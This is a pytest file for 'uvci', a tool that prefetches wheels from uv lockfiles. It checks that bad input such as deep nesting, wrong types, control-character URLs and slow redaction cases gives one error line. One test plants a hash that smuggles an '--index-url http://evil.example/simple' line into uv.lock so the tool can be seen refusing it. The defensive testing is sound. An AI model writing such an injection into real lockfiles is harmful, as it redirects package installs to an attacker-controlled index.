"""Issue 19, class 6: bad input is one line naming the file and the fix, exit 2, never exit 3.

Deep nesting (manifest.json, pyproject.toml, uv.lock, a marker), values of the wrong type
(``used: "x"``, ``size = "big"``), a URL with a NUL, a space or an encoded line break (never
printed raw: log injection), a lock only uv cannot parse (uv's own line, column and cause), and
redaction that stays linear on a 100 KB URL.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import pytest

from tests.conftest import LockedProject
from tests.support.pyindex import LoopbackIndex
from uvci.cli import main
from uvci.util.redact import redact
from uvci.wheelhouse.ownership import MARKER

GAMMA = "gamma-1.1-py3-none-any.whl"


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    rc = main(list(args))
    return rc, capsys.readouterr().err


def error_line(err: str, command: str = "prefetch") -> str:
    lines = [line for line in err.splitlines() if line.startswith(f"uvci {command}: error:")]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


def plant(project: Path, manifest: str, marker: bool = True) -> Path:
    wheelhouse = project / ".uvci" / "wheels"
    wheelhouse.mkdir(parents=True)
    if marker:
        (wheelhouse / MARKER).write_text("uvci\n")
    (wheelhouse / "manifest.json").write_text(manifest)
    return wheelhouse


def test_deeply_nested_manifest_is_ignored_and_replaced(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    project = locked_project("pure")
    deep = '{"format": 1, "files": ' + "[" * 100_000 + "]" * 100_000 + "}"
    wheelhouse = plant(project, deep)
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--retain", "2x")
    assert rc == 0, err
    assert json.loads((wheelhouse / "manifest.json").read_text())["format"] == 1


def test_deeply_nested_manifest_without_a_marker_is_one_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    project = locked_project("pure")
    plant(project, '{"format": 1, "files": ' + "[" * 100_000 + "]" * 100_000 + "}", marker=False)
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12")
    assert rc == 2
    assert "holds other files" in error_line(err)


@pytest.mark.parametrize("used", ['"x"', "[1]", "-1", "1e999", "true"])
def test_a_used_record_of_the_wrong_type_is_ignored(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str], used: str
) -> None:
    project = locked_project("pure")
    old = "gamma-1.0-py3-none-any.whl"
    record = f'{{"sha256": "{"0" * 64}", "size": 3, "origin": "lock", "used": {used}}}'
    manifest = f'{{"format": 1, "generation": 2, "files": {{"{old}": {record}}}, "cells": {{}}}}'
    wheelhouse = plant(project, manifest)
    (wheelhouse / old).write_bytes(b"old")
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--retain", "2x")
    assert rc == 0, err
    assert not (wheelhouse / old).exists()  # no valid record of its use: dropped first


def nest(project: Path, name: str) -> None:
    path = project / name
    path.write_text(path.read_text() + "\n[tool.deep]\nx = " + "[" * 5000 + "]" * 5000 + "\n")


@pytest.mark.parametrize("name", ["pyproject.toml", "uv.lock"])
def test_deeply_nested_toml_is_one_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    project = locked_project("pure")
    nest(project, name)
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
    assert rc == 2
    line = error_line(err)
    assert f"{project / name}: invalid TOML: arrays or tables nested too deeply" in line


def test_deeply_nested_marker_is_one_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    project = locked_project("pure")
    lock = project / "uv.lock"
    deep = "(" * 3000 + "python_full_version < '3.11'" + ")" * 3000
    lock.write_text(lock.read_text().replace("python_full_version < '3.11'", deep, 1))
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
    assert rc == 2
    line = error_line(err)
    assert "is not supported by uvci" in line and len(line) < 400


def test_a_size_that_is_not_a_number_is_one_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    project = locked_project("pure")
    lock = project / "uv.lock"
    text = lock.read_text()
    lock.write_text(re.sub(r"(" + re.escape(GAMMA) + r'"[^}]*size = )\d+', r'\1"big"', text))
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
    assert rc == 2
    line = error_line(err)
    assert re.search(r"uv\.lock:\d+: package 'gamma' is malformed \(size 'big' is not a", line)


@pytest.mark.parametrize("inject", ["\\u0000", " ", "%0A", "%0d%0aFAKE: line", "\\n"])
def test_a_url_with_a_control_character_is_bad_input_never_printed_raw(
    locked_project: LockedProject,
    index: LoopbackIndex,
    capsys: pytest.CaptureFixture[str],
    inject: str,
) -> None:
    project = locked_project("pure")
    lock = project / "uv.lock"
    text = lock.read_text()
    lock.write_text(text.replace(f"/files/{GAMMA}", f"/files/x{inject}y/{GAMMA}", 1))
    index.reset()
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
    assert rc == 2
    line = error_line(err)
    assert "holds a space or control character" in line and "fix the index URL" in line
    assert index.file_requests() == {}  # refused as input, not retried against the network
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", err)
    assert all(not ln or ln.startswith("uvci prefetch:") for ln in err.splitlines()), err


def test_a_lock_only_uv_cannot_parse_is_reported_with_uvs_own_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    project = locked_project("pure")
    lock = project / "uv.lock"
    lock.write_text(lock.read_text().replace("revision = 5", 'revision = "x"', 1))
    rc, err = run(capsys, "plan", str(project), "--python", "3.12")
    assert rc == 2
    line = error_line(err, "plan")
    assert line.startswith(f"uvci plan: error: {lock}:2:12: uv cannot parse uv.lock: ")
    assert 'invalid type: string "x", expected u32' in line
    assert "reason other than uv.lock" not in line


def test_redaction_is_linear_in_the_length_of_the_text() -> None:
    hostile = [
        "a" * 200_000 + "://",
        "https://" + "a" * 200_000,
        "?" + "key" * 66_000,
        "?" + "a" * 200_000,
        "x://" * 50_000,
        "a:" * 100_000 + "//",
        "&token=" * 30_000,
    ]
    start = time.monotonic()
    for text in hostile:
        assert redact(text).count("****") <= len(text)
    assert time.monotonic() - start < 2.0  # quadratic: minutes; linear: milliseconds
    assert redact("https://u:p@h/s?a=b?token=x") == "https://u:****@h/s?a=b?token=****"
    assert redact("x://a://b@h") == "x://a://****@h"


def test_a_hash_that_would_inject_a_requirements_line_is_one_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str]
) -> None:
    project = locked_project("pure")
    lock = project / "uv.lock"
    text = lock.read_text()
    injected = r'hash = "sha256:00\n--index-url http://evil.example/simple"'
    lock.write_text(
        re.sub(
            r"(" + re.escape(GAMMA) + r'", )hash = "[^"]*"',
            r"\1" + injected.replace("\\", "\\\\"),
            text,
        )
    )
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
    assert rc == 2
    assert "is not a sha256" in error_line(err)
    assert not (project / ".uvci" / "wheels" / "requirements-3.12.txt").exists()


@pytest.mark.parametrize("name", ["uv.lock", "pyproject.toml"])
def test_a_fifo_or_device_as_a_project_file_is_one_line(
    locked_project: LockedProject, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    project = locked_project("pure")
    (project / name).unlink()
    (project / name).symlink_to("/dev/zero")  # a FIFO would block a plain read forever
    rc, err = run(capsys, "prefetch", str(project), "--python", "3.12", "--frozen")
    assert rc == 2
    assert f"{project / name}: cannot read: it is not a regular file" in error_line(err)
